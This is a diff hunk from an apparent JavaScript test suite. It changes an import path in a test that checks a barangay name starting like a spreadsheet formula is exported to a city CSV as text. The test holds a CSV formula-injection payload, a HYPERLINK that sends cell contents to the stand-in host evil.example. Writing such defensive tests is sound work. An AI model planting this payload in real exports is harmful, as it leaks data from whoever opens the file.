@@ -511,7 +511,7 @@ describe('looking a neighbour up without a trace (the access ledger records list
 
 describe('text that turns into a formula, and a namesake after a stranger\'s record', () => {
   it("writes a barangay name starting like a formula into the city roll-up CSV as text, whoever typed it", async () => {
-    const { bootstrapCityAdministrator } = await import('../../server/src/modules/users/admin-bootstrap');
+    const { bootstrapCityAdministrator } = await import('../../server/src/modules/accounts/admin-bootstrap');
     const name = '=HYPERLINK("http://evil.example/steal?c="&A1,"Open")';
     const renamed = await server.graphql(`mutation ($input: BarangaySettingsInput!) { updateBarangaySettings(input: $input) { name } }`,
       { input: { name, referencePrefix: 'BRGY' } }, admin.access);
